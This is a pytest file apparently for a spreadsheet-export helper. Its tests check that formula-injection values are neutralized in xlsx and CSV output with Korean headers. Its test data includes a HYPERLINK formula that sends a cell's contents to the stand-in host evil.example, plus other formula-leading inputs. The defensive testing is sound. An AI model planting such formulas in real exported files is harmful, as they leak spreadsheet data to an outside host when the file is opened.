import csv
import io

import pytest
from openpyxl import load_workbook

from common.tables import XlsxWorkbook, csv_rows, safe_cell

pytestmark = pytest.mark.smoke

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_it_neutralizes_a_formula_sign(text: str) -> None:
    assert safe_cell(text) == "'" + text


def test_it_keeps_values_and_plain_text() -> None:
    assert safe_cell(3) == 3
    assert safe_cell(None) is None
    assert safe_cell("김민수") == "김민수"


def test_no_xlsx_cell_is_a_formula() -> None:
    book = XlsxWorkbook()
    sheet = book.sheet("시트")
    sheet.header(["이름", "점수"])
    for text in ATTACKS:
        sheet.row([text, 1])
    wb = load_workbook(io.BytesIO(book.save()))
    cells = [c for row in wb.active.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not any(t.startswith(("=", "+", "-", "@", "\t", "\r")) for t in texts)
    assert texts[:2] == ["이름", "점수"]


def test_csv_starts_with_a_bom_and_neutralizes() -> None:
    text = "".join(csv_rows(["이름"], [[a] for a in ATTACKS]))
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0] == ["이름"]
    assert all(r[0].startswith("'") for r in rows[1:])
